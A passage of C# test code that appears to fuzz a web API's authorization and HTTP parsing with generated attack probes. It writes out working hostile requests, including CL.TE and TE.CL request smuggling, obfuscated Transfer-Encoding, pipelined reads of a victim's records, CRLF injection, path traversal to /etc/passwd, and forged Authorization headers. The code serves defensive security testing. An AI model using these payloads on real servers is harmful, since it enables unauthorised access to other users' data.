            2 => ([.. Form([.. fields]), .. "&Email=%FF%FE"u8.ToArray()], "application/x-www-form-urlencoded"),
            _ => (Form([.. fields]), "application/x-www-form-urlencoded"),
        };
        return Public("account-pages", "POST", path, headers, body, type);
    }

    // ---- raw protocol: what HttpClient will not send ----

    private Probe RawProbe()
    {
        var attacker = _world.Authorization[(Caller.Attacker, "users-api")];
        var victimPath = $"/api/v1/users/{_world.Victim.Id}";
        var h = _host;
        var (name, raw, targetsVictim) = _random.Next(48) switch
        {
            0 => ("invalid UTF-8 in the path", Bytes($"GET /api/v1/users/", [0xFF, 0xFE], $" HTTP/1.1\r\nHost: {h}\r\nConnection: close\r\n\r\n"), false),
            1 => ("invalid UTF-8 in the query", Bytes($"GET /api/v1/users?name_prefix=", [0xC0, 0xAF], $" HTTP/1.1\r\nHost: {h}\r\nAuthorization: {attacker}\r\nConnection: close\r\n\r\n"), false),
            2 => ("NUL in the path", Bytes($"GET /api/v1/users/me", [0x00], $" HTTP/1.1\r\nHost: {h}\r\nConnection: close\r\n\r\n"), false),
            3 => ("NUL in a header value", Bytes($"GET /api/v1/users/me HTTP/1.1\r\nHost: {h}\r\nX-Test: a", [0x00], "b\r\nConnection: close\r\n\r\n"), false),
            4 => ("invalid UTF-8 in a header value", Bytes($"GET /api/v1/users/me HTTP/1.1\r\nHost: {h}\r\nAuthorization: {attacker}\r\nX-Test: ", [0xFF, 0xFE, 0xFD], "\r\nConnection: close\r\n\r\n"), false),
            5 => ("UTF-8 in a header value", Bytes($"GET /api/v1/users/me HTTP/1.1\r\nHost: {h}\r\nAuthorization: {attacker}\r\nX-Note: h", "é 🙂"u8.ToArray(), "\r\nConnection: close\r\n\r\n"), false),
            6 => ("invalid UTF-8 in the bearer token", Bytes($"GET /api/v1/users/me HTTP/1.1\r\nHost: {h}\r\nAuthorization: Bearer ", [0xFF, 0xC0, 0x80], "\r\nConnection: close\r\n\r\n"), false),
            7 => ("obs-fold header", Ascii($"GET /api/v1/users/me HTTP/1.1\r\nHost: {h}\r\nAuthorization: {attacker}\r\nX-Test: a\r\n b\r\nConnection: close\r\n\r\n"), false),
            8 => ("bare LF line endings", Ascii($"GET /api/v1/users/me HTTP/1.1\nHost: {h}\nAuthorization: {attacker}\nConnection: close\n\n"), false),
            9 => ("bare CR in a header", Ascii($"GET /api/v1/users/me HTTP/1.1\r\nHost: {h}\r\nX-Test: a\rb\r\nConnection: close\r\n\r\n"), false),
            10 => ("HTTP/1.1 without Host", Ascii($"GET /api/v1/users/me HTTP/1.1\r\nAuthorization: {attacker}\r\nConnection: close\r\n\r\n"), false),
            11 => ("two Host headers", Ascii($"GET /api/v1/users/me HTTP/1.1\r\nHost: {h}\r\nHost: {HostileWorld.EvilHost}\r\nConnection: close\r\n\r\n"), false),
            12 => ("malformed Host", Ascii($"GET /api/v1/users/me HTTP/1.1\r\nHost: {One("a b", "", "localhost:99999", "[::1", "evil.example:80:80", "user@evil.example", "%00")}\r\nConnection: close\r\n\r\n"), false),
            13 => ("two different Content-Length", Ascii($"POST /api/v1/orders HTTP/1.1\r\nHost: {h}\r\nAuthorization: {attacker}\r\nContent-Type: application/json\r\nContent-Length: 2\r\nContent-Length: 30\r\nConnection: close\r\n\r\n{{}}"), false),
            14 => ("Content-Length repeated in one header", Ascii($"POST /api/v1/orders HTTP/1.1\r\nHost: {h}\r\nContent-Type: application/json\r\nContent-Length: 2, 2\r\nConnection: close\r\n\r\n{{}}"), false),
            15 => ("CL.TE smuggling", Ascii($"POST /api/v1/orders HTTP/1.1\r\nHost: {h}\r\nAuthorization: {attacker}\r\nContent-Type: application/json\r\nContent-Length: 6\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET {victimPath} HTTP/1.1\r\nHost: {h}\r\nAuthorization: {attacker}\r\nConnection: close\r\n\r\n"), true),
            16 => ("TE.CL smuggling", Ascii($"POST /api/v1/orders HTTP/1.1\r\nHost: {h}\r\nAuthorization: {attacker}\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\nContent-Length: 3\r\n\r\n8\r\nSMUGGLED\r\n0\r\n\r\nGET {victimPath} HTTP/1.1\r\nHost: {h}\r\nConnection: close\r\n\r\n"), true),
            17 => ("obfuscated Transfer-Encoding", Ascii($"POST /api/v1/orders HTTP/1.1\r\nHost: {h}\r\nAuthorization: {attacker}\r\nContent-Type: application/json\r\n{One("Transfer-Encoding: chunked, identity", "Transfer-Encoding: xchunked", "Transfer-Encoding : chunked", "Transfer-Encoding: \u000bchunked", "Transfer-Encoding: chunked\r\nTransfer-Encoding: identity", "Transfer-Encoding: gzip, chunked", "Transfer-Encoding: identity")}\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{{}}"), false),
            18 => ("invalid chunk size", Ascii($"POST /api/v1/orders HTTP/1.1\r\nHost: {h}\r\nAuthorization: {attacker}\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n{One("zz", "-1", "FFFFFFFFFFFFFFFFFF", "2;" + new string('e', 10_000), "0x2")}\r\n{{}}\r\n0\r\n\r\n"), false),
            19 => ("chunk longer than declared", Ascii($"POST /api/v1/orders HTTP/1.1\r\nHost: {h}\r\nAuthorization: {attacker}\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n2\r\n{{\"items\":[]}}\r\n0\r\n\r\n"), false),
            20 => ("invalid Content-Length", Ascii($"POST /api/v1/orders HTTP/1.1\r\nHost: {h}\r\nAuthorization: {attacker}\r\nContent-Type: application/json\r\nContent-Length: {One("-1", "+2", "2e0", "99999999999999999999", "abc", "2 2", "0x2", "")}\r\nConnection: close\r\n\r\n{{}}"), false),
            21 => ("absolute-form target", Ascii($"GET http://{HostileWorld.EvilHost}/api/v1/users/me HTTP/1.1\r\nHost: {One(HostileWorld.EvilHost, h)}\r\nAuthorization: {attacker}\r\nConnection: close\r\n\r\n"), false),
            22 => ("absolute-form at the victim", Ascii($"GET http://{h}{victimPath} HTTP/1.1\r\nHost: {h}\r\nAuthorization: {attacker}\r\nConnection: close\r\n\r\n"), true),
            23 => ("asterisk-form target", Ascii($"{One("OPTIONS", "GET")} * HTTP/1.1\r\nHost: {h}\r\nConnection: close\r\n\r\n"), false),
            24 => ("authority-form CONNECT", Ascii($"CONNECT {One(HostileWorld.EvilHost + ":443", h, _world.InternalAddresses[1])} HTTP/1.1\r\nHost: {h}\r\nConnection: close\r\n\r\n"), false),
            25 => ("malformed method", Ascii($"{One("get", "G\tET", "GE T", "<script>", "GET/", "G@T", "\u0001GET")} /api/v1/users/me HTTP/1.1\r\nHost: {h}\r\nConnection: close\r\n\r\n"), false),
            26 => ("target without a leading slash", Ascii($"GET {One("api/v1/users/me", "?x=1", "#frag", "\\api\\v1\\users\\me")} HTTP/1.1\r\nHost: {h}\r\nConnection: close\r\n\r\n"), false),
            27 => ("5,000-character URL", Ascii($"GET /api/v1/users?name_prefix={new string('a', 5_000)} HTTP/1.1\r\nHost: {h}\r\nAuthorization: {attacker}\r\nConnection: close\r\n\r\n"), false),
            28 => ("20,000-character URL", Ascii($"GET /api/v1/users?name_prefix={new string('a', 20_000)} HTTP/1.1\r\nHost: {h}\r\nConnection: close\r\n\r\n"), false),
            29 => ("malformed header line", Ascii($"GET /api/v1/users/me HTTP/1.1\r\nHost: {h}\r\n{One("XTest a", "X Test: a", ": a", "X(Test): a", "X-Test\t: a", "X-Test:" + new string(' ', 100))}\r\nConnection: close\r\n\r\n"), false),
            30 => ("70 KB header", Ascii($"GET /api/v1/users/me HTTP/1.1\r\nHost: {h}\r\nX-Padding: {new string('p', 70_000)}\r\nConnection: close\r\n\r\n"), false),
            31 => ("200 headers", Ascii($"GET /api/v1/users/me HTTP/1.1\r\nHost: {h}\r\n{string.Concat(Enumerable.Range(0, 200).Select(i => $"X-H{i}: v\r\n"))}Connection: close\r\n\r\n"), false),
            32 => ("HTTP/1.0 without Host", Ascii($"GET /api/v1/users/me HTTP/1.0\r\nAuthorization: {attacker}\r\n\r\n"), false),
            33 => ("pipelined: own profile, then the victim's", Ascii($"GET /api/v1/users/me HTTP/1.1\r\nHost: {h}\r\nAuthorization: {attacker}\r\n\r\nGET {victimPath} HTTP/1.1\r\nHost: {h}\r\nAuthorization: {attacker}\r\nConnection: close\r\n\r\n"), true),
            34 => ("Expect: 100-continue", Ascii($"POST /api/v1/orders HTTP/1.1\r\nHost: {h}\r\nAuthorization: {attacker}\r\nContent-Type: application/json\r\nExpect: 100-continue\r\nContent-Length: 2\r\nConnection: close\r\n\r\n[]"), false),
            35 => ("smuggling into the sign-in page", Ascii($"POST /account/login HTTP/1.1\r\nHost: {h}\r\nContent-Type: application/x-www-form-urlencoded\r\nContent-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\nGET /connect/userinfo HTTP/1.1\r\nHost: {h}\r\nConnection: close\r\n\r\n"), false),
            36 => ("CRLF in the target", Bytes("GET /api/v1/users/me", "\r\nX-Injected: 1"u8.ToArray(), $" HTTP/1.1\r\nHost: {h}\r\nConnection: close\r\n\r\n"), false),
            37 => ("space before the first header", Ascii($"GET /api/v1/users/me HTTP/1.1\r\n Host: {h}\r\nConnection: close\r\n\r\n"), false),
            38 => ("invalid UTF-8 JSON body", Bytes($"PATCH /api/v1/users/me HTTP/1.1\r\nHost: {h}\r\nAuthorization: {attacker}\r\nContent-Type: application/merge-patch+json\r\nContent-Length: 15\r\nConnection: close\r\n\r\n{{\"name\":\"", [0xFF, 0xFE, 0xC0, 0xAF], "\"}"), false),
            39 => ("chunked body with trailers", Ascii($"POST /api/v1/orders HTTP/1.1\r\nHost: {h}\r\nAuthorization: {attacker}\r\nContent-Type: application/json\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n2\r\n[]\r\n0\r\nAuthorization: Bearer forged\r\nX-Forwarded-For: 127.0.0.1\r\n\r\n"), false),
            40 => ("WebSocket upgrade on an API route", Ascii($"GET /api/v1/users/me HTTP/1.1\r\nHost: {h}\r\nAuthorization: {attacker}\r\nConnection: Upgrade\r\nUpgrade: websocket\r\nSec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\r\nSec-WebSocket-Version: 13\r\n\r\n"), false),
            41 => ("h2c upgrade", Ascii($"GET /api/v1/users/me HTTP/1.1\r\nHost: {h}\r\nAuthorization: {attacker}\r\nConnection: Upgrade, HTTP2-Settings\r\nUpgrade: h2c\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n\r\n"), false),
            42 => ("body on GET with Transfer-Encoding", Ascii($"GET /api/v1/users/me HTTP/1.1\r\nHost: {h}\r\nAuthorization: {attacker}\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n5\r\nhello\r\n0\r\n\r\n"), false),
            43 => ("extra spaces in the request line", Ascii($"GET  /api/v1/users/me  HTTP/1.1\r\nHost: {h}\r\nConnection: close\r\n\r\n"), false),
            44 => ("raw dot segments and bad escapes", Ascii($"GET {One("/api/v1/users/../../../etc/passwd", "/%2e%2e/%2e%2e/etc/passwd", "/api/v1/users/%", "/api/v1/users/%zz", "/api/v1/users/..;/", "/api/v1/users/me/../../../../../../appsettings.json")} HTTP/1.1\r\nHost: {h}\r\nAuthorization: {attacker}\r\nConnection: close\r\n\r\n"), false),
            45 => ("truncated body", Ascii($"POST /api/v1/orders HTTP/1.1\r\nHost: {h}\r\nAuthorization: {attacker}\r\nContent-Type: application/json\r\nContent-Length: 100\r\nConnection: close\r\n\r\n{{\"items\":"), false),
            46 => ("pipelined with a smuggled admin path", Ascii($"GET /api/v1/users/me HTTP/1.1\r\nHost: {h}\r\nAuthorization: {attacker}\r\nContent-Length: 0\r\n\r\nGET /api/v1/reports/top-customers HTTP/1.1\r\nHost: {h}\r\nAuthorization: {attacker}\r\nX-Original-URL: /api/v1/reports/top-customers\r\nConnection: close\r\n\r\n"), false),
            _ => ("HTTP/1.0 keep-alive pipelined", Ascii($"GET /api/v1/users/me HTTP/1.0\r\nHost: {h}\r\nConnection: keep-alive\r\nAuthorization: {attacker}\r\n\r\nGET {victimPath} HTTP/1.0\r\nHost: {h}\r\nAuthorization: {attacker}\r\n\r\n"), true),
        };
        return new Probe
        {
            Category = "raw-protocol",
            Endpoint = name,
            Caller = Caller.Attacker,
            Method = Encoding.Latin1.GetString(raw).Split(' ', 2)[0],
            Target = "(raw)",
            Raw = raw,
            TargetsVictim = targetsVictim,
        };
    }

    private static byte[] Ascii(string text) => Encoding.UTF8.GetBytes(text);

    private static byte[] Bytes(string head, byte[] middle, string tail) => [.. Encoding.UTF8.GetBytes(head), .. middle, .. Encoding.UTF8.GetBytes(tail)];

    // ---- building blocks ----

    /// <summary>An API request with the caller's Authorization header (and, one time in five, an unusual Accept header).</summary>
    private Probe Api(string category, Caller caller, string method, string endpoint, string target, byte[]? body, string? contentType,
        IReadOnlyList<(string Name, string Value)> headers, bool targetsVictim, bool chunked = false, bool mustBeRejected = false,
        bool authorize = true, bool accept = true)
    {
        // The admin may change anyone's data: here it only reads, or writes what no endpoint accepts.
        mustBeRejected |= caller == Caller.Admin && method is not ("GET" or "HEAD" or "OPTIONS");
        var all = new List<(string, string)>(headers);
        if (authorize && Authorization(caller, target.StartsWith("/api/v1/users", StringComparison.Ordinal) ? "users-api" : "orders-api") is { } auth)
        {
            all.Add(("Authorization", auth));
        }

        if (accept && Chance(0.2))
        {
            all.Add(("Accept", Pick(Accepts)));
        }

        return new Probe
        {
            Category = category,
            Endpoint = $"{method} {endpoint}",
            Caller = caller,
            Method = method,
            Target = target,
            Headers = all,
            Body = body,
            ContentType = contentType,
            Chunked = chunked && body is not null,
            TargetsVictim = targetsVictim,
            MustBeRejected = mustBeRejected,
        };
    }

    private static Probe Public(string category, string method, string target, IReadOnlyList<(string Name, string Value)> headers, byte[]? body = null, string? contentType = null) =>
        new()
        {
            Category = category,
            Endpoint = $"{method} {target.Split('?', 2)[0]}",
            Caller = Caller.Anonymous,
            Method = method,
            Target = target,
            Headers = headers,
            Body = body,
            ContentType = contentType,
        };

    private string? Authorization(Caller caller, string audience) => caller switch
    {
        Caller.Anonymous => null,
        Caller.GarbageToken => "Bearer " + One("null", "undefined", "eyJ", "a.b.c", "....", "eyJhbGciOiJIUzI1NiJ9.e30.ZRrHA1JJJW8opsbCGfG_HACGpVUMN_a9IV7pAx_Zmeo", new string('A', 5_000), "Bearer x", Pick(Injections).Replace("\0", "", StringComparison.Ordinal)),
        Caller.OtherScheme => One(
            $"Basic {Convert.ToBase64String(Encoding.ASCII.GetBytes($"{_world.Victim.Email}:{TestAccounts.Password}"))}", "Digest username=\"victim\"", "Bearer", "Bearer  ",
            "Negotiate YII=", $"bearer {_world.Attacker.AccessToken}", $"Bearer {_world.Attacker.AccessToken} extra", $"Token {_world.Attacker.AccessToken}",
            $"Bearer {_world.Attacker.AccessToken},Bearer {_world.Admin.AccessToken[..20]}"),
        _ => _world.Authorization[(caller, audience)],
    };

    /// <summary>Fills {id} with one of the victim's ids (or the caller's own, or a stranger's).</summary>
    private (string Target, bool Victim) Fill(string template, Caller caller, bool aimAtVictim)
    {
        if (template.Contains("{sku}", StringComparison.Ordinal))
        {
            // Products are nobody's: any SKU, real-looking or not, is fair game for any caller.
            return (template.Replace("{sku}", One("NO-SUCH-SKU", "A", "x.y_z-1", "CT-1", "FORGED-1"), StringComparison.Ordinal), false);
        }

        if (!template.Contains("{id}", StringComparison.Ordinal))
        {
            return (template, false);
        }

        var orders = template.StartsWith("/api/v1/orders", StringComparison.Ordinal);
        if (aimAtVictim || caller == Caller.Victim)
        {
            return (template.Replace("{id}", orders ? Pick(_world.VictimOrderIds) : _world.Victim.Id.ToString(), StringComparison.Ordinal), true);
        }

        var other = orders
            ? Guid.NewGuid().ToString()
            : One(_world.Attacker.Id.ToString(), Guid.NewGuid().ToString(), Guid.Empty.ToString(), _world.Admin.Id.ToString());
        return (template.Replace("{id}", other, StringComparison.Ordinal), false);
    }

    private static byte[] Json(object value) => JsonSerializer.SerializeToUtf8Bytes(value, ApiClient.Json);

    private static byte[] JsonObject(IEnumerable<(string Name, string Value)> fields) =>
        Json(fields.GroupBy(f => f.Name, StringComparer.Ordinal).ToDictionary(g => g.Key, g => g.Last().Value, StringComparer.Ordinal));

    private static byte[] Form(params (string Name, string Value)[] fields) => Encoding.UTF8.GetBytes(QueryString(fields));

    private static string QueryString(params (string Name, string Value)[] fields) =>
        string.Join('&', fields.Select(f => $"{Uri.EscapeDataString(f.Name)}={Uri.EscapeDataString(f.Value)}"));

    private T Pick<T>(IReadOnlyList<T> items) => items[_random.Next(items.Count)];

    private T One<T>(params ReadOnlySpan<T> items) => items[_random.Next(items.Length)];

    private bool Chance(double probability) => _random.NextDouble() < probability;

    private Caller PickCaller(params (Caller Caller, int Weight)[] weights)
    {
        var roll = _random.Next(weights.Sum(w => w.Weight));
        foreach (var (caller, weight) in weights)
        {
            if (roll < weight)
            {
                return caller;
            }

            roll -= weight;
        }

        return weights[^1].Caller;
    }

    public static string Describe(IEnumerable<Probe> probes) => string.Join(", ",
        probes.GroupBy(p => p.Category).OrderBy(g => g.Key, StringComparer.Ordinal).Select(g => string.Create(CultureInfo.InvariantCulture, $"{g.Key} {g.Count()}")));
}
